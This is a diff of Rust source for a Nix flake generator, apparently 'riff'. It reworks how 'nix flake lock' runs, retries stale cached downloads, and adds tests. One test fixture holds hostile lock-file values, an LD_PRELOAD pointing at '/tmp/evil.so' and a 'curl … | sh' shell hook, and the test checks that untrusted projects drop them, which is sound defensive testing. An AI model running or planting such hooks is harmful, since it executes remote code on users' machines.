+                nix_lock_exit.progress.errors(),
+            ),
+        )
+        .into());
+    }
+
+    Ok(())
+}
+
+/// Run `nix flake lock` on the flake in `flake_dir`, downloading its inputs again rather than
+/// using cached downloads if `refresh` is set
+async fn run_nix_flake_lock(
+    flake_dir: &Path,
+    offline: bool,
+    refresh: bool,
+) -> color_eyre::Result<NixOutput> {
+    let mut nix_lock_command = crate::nix_config::command(["flake", "lock"]);
     nix_lock_command
-        .arg("flake")
-        .arg("lock")
-        .args(["--extra-experimental-features", "flakes nix-command"])
         .arg("-L")
-        .arg(format!("path://{}", flake_dir.path().to_str().unwrap()));
+        .arg(format!("path://{}", flake_dir.to_str().unwrap()))
+        .kill_on_drop(true);
 
     if offline {
         nix_lock_command.arg("--offline");
     }
+    if refresh {
+        nix_lock_command
+            .arg("--refresh")
+            .args(["--tarball-ttl", "0"]);
+    }
+    crate::process_limits::apply_to_nix(&mut nix_lock_command);
+    if !crate::execution::perform(Effect::run(nix_lock_command.as_std())) {
+        return Ok(NixOutput {
+            status: crate::command_runner::exit_status(0),
+            stdout: vec![],
+            progress: Default::default(),
+        });
+    }
 
-    tracing::trace!(command = ?nix_lock_command.as_std(), "Running");
-    let spinner = SimpleSpinner::new_with_message(Some(&format!(
-        "Running `{nix_flake_lock}`",
-        nix_flake_lock = "nix flake lock".cyan()
-    )))
+    let spinner = spinner::start(
+        Phase::LockingFlake,
+        &format!(
+            "Running `{nix_flake_lock}`",
+            nix_flake_lock = "nix flake lock".cyan()
+        ),
+    )
     .context("Failed to construct progress spinner")?;
 
-    let nix_lock_exit = match nix_lock_command.output().await {
-        Ok(nix_lock_exit) => nix_lock_exit,
-        Err(err) => {
-            let err_msg = format!(
-                "\
-                Could not execute `{nix_lock}`. Is `{nix}` installed?\n\n\
-                Get instructions for installing Nix: {nix_install_url}\
-                ",
-                nix_lock = "nix flake lock".cyan(),
-                nix = "nix".cyan(),
-                nix_install_url = "https://nixos.org/download.html".blue().underline(),
-            );
-            eprintln!("{err_msg}\n\nUnderlying error:\n{err}", err = err.red());
-            std::process::exit(1);
-        }
-    };
+    let nix_lock_exit = crate::nix_progress::run_nix(&mut nix_lock_command, offline, &spinner)
+        .await
+        .map_err(|err| missing_nix("nix flake lock").with_source(err))?;
 
     spinner.finish_and_clear();
+    Ok(nix_lock_exit)
+}
 
-    if !nix_lock_exit.status.success() {
-        return Err(eyre!(
-            "`nix flake lock` exited with code {}:\n{}",
-            nix_lock_exit
-                .status
-                .code()
-                .map(|x| x.to_string())
-                .unwrap_or_else(|| "unknown".to_string()),
-            std::str::from_utf8(&nix_lock_exit.stderr)?,
-        ));
-    }
+/// Parts of the errors nix reports when a download it cached, such as a Nixpkgs tarball, is out
+/// of date or was garbage collected
+const STALE_DOWNLOAD_ERRORS: &[&str] = &[
+    // The cached tarball's unpacked source was garbage collected
+    "getting status of '/nix/store/",
+    "hash mismatch in file downloaded from",
+    "NAR hash mismatch in input",
+    // The cached redirect of a tarball URL points at an archive which is gone
+    "HTTP error 404",
+];
 
-    Ok(flake_dir)
+/// Whether nix failed with `errors` because of a stale cached download, which downloading again
+/// fixes
+fn is_stale_download(errors: &str) -> bool {
+    STALE_DOWNLOAD_ERRORS
+        .iter()
+        .any(|pattern| errors.contains(pattern))
 }
 
 #[cfg(test)]
 mod tests {
-    use super::generate_flake_from_project_dir;
+    use super::{
+        discover_project_dir, generate_flake_from_project_dir, is_stale_download, lock_flake,
+        manifest_dir, project_cache_key, resolve_environment, resolve_project_dir, GenerateOptions,
+        DEFAULT_NIXPKGS, RIFF_LOCK_FILE,
+    };
+    use crate::command_runner::{self, RecordingRunner};
+    use crate::errors::ErrorCode;
+    use crate::offline::OfflineMode;
+    use std::sync::Arc;
     use tempfile::TempDir;
     use tokio::fs::{read_to_string, write};
 
@@ -173,8 +1022,13 @@ path = "lib.rs"
         )
         .await?;
 
+        let options = GenerateOptions {
+            offline: OfflineMode::Cached,
+            disable_telemetry: true,
+            ..Default::default()
+        };
         let flake_dir =
-            generate_flake_from_project_dir(Some(temp_dir.path().to_owned()), true, true).await?;
+            generate_flake_from_project_dir(Some(temp_dir.path().to_owned()), &options).await?;
         let flake = read_to_string(flake_dir.path().join("flake.nix")).await?;
 
         assert!(
@@ -186,5 +1040,377 @@ path = "lib.rs"
         Ok(())
     }
 
-    // NOTE: we can't test the failure case since it will `std::process::exit`
+    #[tokio::test]
+    async fn generate_flake_without_nix() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let temp_dir = TempDir::new()?;
+        write(temp_dir.path().join("lib.rs"), "fn main () {}").await?;
+        write(
+            temp_dir.path().join("Cargo.toml"),
+            r#"
+[package]
+name = "riff-test"
+version = "0.1.0"
+edition = "2021"
+
+[lib]
+name = "riff_test"
+path = "lib.rs"
+        "#,
+        )
+        .await?;
+
+        let options = GenerateOptions {
+            offline: OfflineMode::Cached,
+            disable_telemetry: true,
+            no_eval: true,
+            ..Default::default()
+        };
+        let flake_dir =
+            generate_flake_from_project_dir(Some(temp_dir.path().to_owned()), &options).await?;
+        let flake = read_to_string(flake_dir.path().join("flake.nix")).await?;
+
+        assert!(flake.contains("cargo") && flake.contains("rustc"));
+        assert!(!flake_dir.path().join("flake.lock").exists());
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn generate_flake_without_project_fails() -> eyre::Result<()> {
+        let temp_dir = TempDir::new()?;
+        let options = GenerateOptions {
+            offline: OfflineMode::Cached,
+            disable_telemetry: true,
+            no_eval: true,
+            ..Default::default()
+        };
+        let err = generate_flake_from_project_dir(Some(temp_dir.path().to_owned()), &options)
+            .await
+            .expect_err("a directory without a project has no environment");
+        assert_eq!(ErrorCode::of(&err), ErrorCode::NoProject);
+        Ok(())
+    }
+
+    #[test]
+    fn stale_downloads_are_recognized() {
+        assert!(is_stale_download(
+            "error: getting status of '/nix/store/dp4r4rnqjzmcxmqgfrwlmvqxk1g0hmqn-source': No such file or directory"
+        ));
+        assert!(is_stale_download(
+            "error: NAR hash mismatch in input 'github:NixOS/nixpkgs/9e49886b3d83d18ca59f66ec7b388315fa3d2e60'"
+        ));
+        assert!(!is_stale_download("error: attribute 'opensll' missing"));
+    }
+
+    #[tokio::test]
+    async fn stale_downloads_are_fetched_again() -> eyre::Result<()> {
+        let flake_dir = TempDir::new()?;
+        let runner = Arc::new(
+            RecordingRunner::default()
+                .respond(
+                    "nix --extra-experimental-features 'nix-command flakes' flake lock",
+                    1,
+                    "",
+                    "error: NAR hash mismatch in input 'github:NixOS/nixpkgs'",
+                )
+                .respond(
+                    "nix --extra-experimental-features 'nix-command flakes' flake lock",
+                    0,
+                    "",
+                    "",
+                ),
+        );
+        command_runner::scope(
+            runner.clone(),
+            lock_flake(
+                flake_dir.path(),
+                "{ outputs = _: { }; }",
+                OfflineMode::Online,
+                false,
+            ),
+        )
+        .await?;
+
+        let commands = runner.commands();
+        assert_eq!(commands.len(), 2);
+        assert!(!commands[0].contains("--refresh"));
+        assert!(commands[1].contains("--refresh"));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn dry_runs_dont_lock() -> eyre::Result<()> {
+        let flake_dir = TempDir::new()?;
+        let runner = Arc::new(RecordingRunner::default());
+        let dry_run = crate::execution::ExecutionContext { dry_run: true };
+        command_runner::scope(
+            runner.clone(),
+            crate::execution::scope(
+                dry_run,
+                lock_flake(
+                    flake_dir.path(),
+                    "{ outputs = _: { }; }",
+                    OfflineMode::Online,
+                    false,
+                ),
+            ),
+        )
+        .await?;
+
+        assert!(runner.commands().is_empty());
+        assert!(!flake_dir.path().join("flake.lock").exists());
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn inputs_added_to_a_locked_environment_are_locked() -> eyre::Result<()> {
+        if !crate::platform::needs_nixgl() {
+            return Ok(());
+        }
+        let xdg_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", xdg_dir.path().join("cache"));
+        std::env::set_var("XDG_STATE_HOME", xdg_dir.path().join("state"));
+        let project_dir = TempDir::new()?;
+        let riff_lock = serde_json::json!({
+            "version": 1,
+            "riff-version": env!("CARGO_PKG_VERSION"),
+            "nixpkgs": DEFAULT_NIXPKGS,
+            "nixpkgs-rev": null,
+            "cargo-lock-sha256": null,
+            "environment": {
+                "build-inputs": ["cargo"],
+                "runtime-inputs": ["libGL"],
+            },
+            "registry": {},
+            "flake-lock": {},
+        });
+        write(
+            project_dir.path().join(RIFF_LOCK_FILE),
+            riff_lock.to_string(),
+        )
+        .await?;
+        let options = GenerateOptions {
+            offline: OfflineMode::Cached,
+            disable_telemetry: true,
+            nixgl: true,
+            ..Default::default()
+        };
+        let runner = Arc::new(RecordingRunner::default().respond(
+            "nix --extra-experimental-features 'nix-command flakes' flake lock",
+            0,
+            "",
+            "",
+        ));
+
+        let flake_dir = command_runner::scope(
+            runner.clone(),
+            generate_flake_from_project_dir(Some(project_dir.path().to_owned()), &options),
+        )
+        .await?;
+
+        // The lock recorded no nixGL, so the flake taking it as an input is locked again
+        let flake = read_to_string(flake_dir.path().join("flake.nix")).await?;
+        assert!(flake.contains("github:nix-community/nixGL"));
+        let locks = runner
+            .commands()
+            .into_iter()
+            .filter(|command| command.contains("flake lock"))
+            .count();
+        assert_eq!(locks, 1);
+        Ok(())
+    }
+
+    // Calls Nix, like `generate_flake_success`
+    #[tokio::test]
+    #[ignore]
+    async fn nixgl_is_locked() -> eyre::Result<()> {
+        if !crate::platform::needs_nixgl() {
+            return Ok(());
+        }
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let temp_dir = TempDir::new()?;
+        write(temp_dir.path().join("lib.rs"), "fn main () {}").await?;
+        write(
+            temp_dir.path().join("Cargo.toml"),
+            r#"
+[package]
+name = "riff-test"
+version = "0.1.0"
+edition = "2021"
+
+[lib]
+name = "riff_test"
+path = "lib.rs"
+
+[package.metadata.riff]
+runtime-inputs = ["libGL"]
+        "#,
+        )
+        .await?;
+
+        let options = GenerateOptions {
+            offline: OfflineMode::Cached,
+            disable_telemetry: true,
+            nixgl: true,
+            ..Default::default()
+        };
+        let flake_dir =
+            generate_flake_from_project_dir(Some(temp_dir.path().to_owned()), &options).await?;
+        let flake_lock = read_to_string(flake_dir.path().join("flake.lock")).await?;
+
+        assert!(flake_lock.contains("nixGL"));
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn untrusted_locks_leave_out_variables_and_hooks() -> eyre::Result<()> {
+        let xdg_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", xdg_dir.path().join("cache"));
+        std::env::set_var("XDG_STATE_HOME", xdg_dir.path().join("state"));
+        let project_dir = TempDir::new()?;
+        let riff_lock = serde_json::json!({
+            "version": 1,
+            "riff-version": env!("CARGO_PKG_VERSION"),
+            "nixpkgs": DEFAULT_NIXPKGS,
+            "nixpkgs-rev": null,
+            "cargo-lock-sha256": null,
+            "environment": {
+                "build-inputs": ["openssl"],
+                "environment-variables": { "LD_PRELOAD": "/tmp/evil.so" },
+                "shell-hooks": ["curl https://example.com | sh"],
+            },
+            "registry": {},
+            "flake-lock": {},
+        });
+        write(
+            project_dir.path().join(RIFF_LOCK_FILE),
+            riff_lock.to_string(),
+        )
+        .await?;
+        let options = GenerateOptions {
+            offline: OfflineMode::Cached,
+            ..Default::default()
+        };
+
+        // Without a terminal to ask on, the project isn't trusted
+        let resolved = resolve_environment(project_dir.path(), &options, true).await?;
+        assert!(resolved.environment.build_inputs.contains("openssl"));
+        assert!(resolved.environment.environment_variables.is_empty());
+        assert!(resolved.environment.shell_hooks.is_empty());
+
+        crate::trust::decide(project_dir.path(), true).await?;
+        let resolved = resolve_environment(project_dir.path(), &options, true).await?;
+        assert_eq!(
+            resolved
+                .environment
+                .environment_variables
+                .get("LD_PRELOAD")
+                .map(String::as_str),
+            Some("/tmp/evil.so")
+        );
+        assert_eq!(resolved.environment.shell_hooks.len(), 1);
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn project_dir_may_be_a_manifest() -> eyre::Result<()> {
+        let temp_dir = TempDir::new()?;
+        let manifest = temp_dir.path().join("Cargo.toml");
+        write(&manifest, "").await?;
+        let project_dir = temp_dir.path().canonicalize()?;
+        assert_eq!(
+            resolve_project_dir(Some(manifest), None, true)?,
+            project_dir
+        );
+        assert_eq!(
+            resolve_project_dir(Some(temp_dir.path().to_owned()), None, true)?,
+            project_dir
+        );
+
+        let not_a_manifest = temp_dir.path().join("README.md");
+        write(&not_a_manifest, "").await?;
+        assert!(resolve_project_dir(Some(not_a_manifest), None, true).is_err());
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn manifest_path_outside_the_project_root() -> eyre::Result<()> {
+        let temp_dir = TempDir::new()?;
+        let rust_dir = temp_dir.path().join("rust");
+        tokio::fs::create_dir_all(&rust_dir).await?;
+        write(rust_dir.join("Cargo.toml"), "").await?;
+        assert_eq!(
+            manifest_dir(&rust_dir.join("Cargo.toml"))?,
+            rust_dir.canonicalize()?
+        );
+
+        write(temp_dir.path().join("package.json"), "{}").await?;
+        assert!(manifest_dir(&temp_dir.path().join("package.json")).is_err());
+        assert!(manifest_dir(&temp_dir.path().join("Cargo.toml")).is_err());
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn project_dir_is_discovered_above() -> eyre::Result<()> {
+        let temp_dir = TempDir::new()?;
+        let workspace = temp_dir.path().join("workspace");
+        let member = workspace.join("member");
+        let nested = member.join("src").join("deep");
+        tokio::fs::create_dir_all(&nested).await?;
+        write(
+            workspace.join("Cargo.toml"),
+            "[workspace]\nmembers = [\"member\"]\n",
+        )
+        .await?;
+        write(member.join("Cargo.toml"), "[package]\nname = \"member\"\n").await?;
+        assert_eq!(discover_project_dir(&nested), workspace);
+
+        // A standalone package isn't part of a workspace further up
+        let repo = workspace.join("vendor").join("repo");
+        tokio::fs::create_dir_all(repo.join(".git")).await?;
+        tokio::fs::create_dir_all(repo.join("docs")).await?;
+        assert_eq!(discover_project_dir(&repo.join("docs")), repo);
+        write(repo.join("Cargo.toml"), "[package]\nname = \"repo\"\n").await?;
+        assert_eq!(discover_project_dir(&repo.join("docs")), repo);
+        Ok(())
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn project_dir_is_the_same_through_symlinks() -> eyre::Result<()> {
+        let temp_dir = TempDir::new()?;
+        let project = temp_dir.path().join("project");
+        tokio::fs::create_dir_all(&project).await?;
+        write(
+            project.join("Cargo.toml"),
+            "[package]\nname = \"project\"\n",
+        )
+        .await?;
+        let link = temp_dir.path().join("link");
+        tokio::fs::symlink(&project, &link).await?;
+
+        let project_dir = resolve_project_dir(Some(project.clone()), None, true)?;
+        assert_eq!(
+            resolve_project_dir(Some(link.clone()), None, true)?,
+            project_dir
+        );
+        assert_eq!(
+            resolve_project_dir(Some(link.join("Cargo.toml")), None, true)?,
+            project_dir
+        );
+        assert_eq!(project_cache_key(&link), project_cache_key(&project));
+
+        // A worktree's `.git` is a file pointing at the main repository
+        let worktree = temp_dir.path().join("worktree");
+        tokio::fs::create_dir_all(worktree.join("src")).await?;
+        write(
+            worktree.join(".git"),
+            "gitdir: /elsewhere/.git/worktrees/worktree\n",
+        )
+        .await?;
+        assert_eq!(discover_project_dir(&worktree.join("src")), worktree);
+        Ok(())
+    }
 }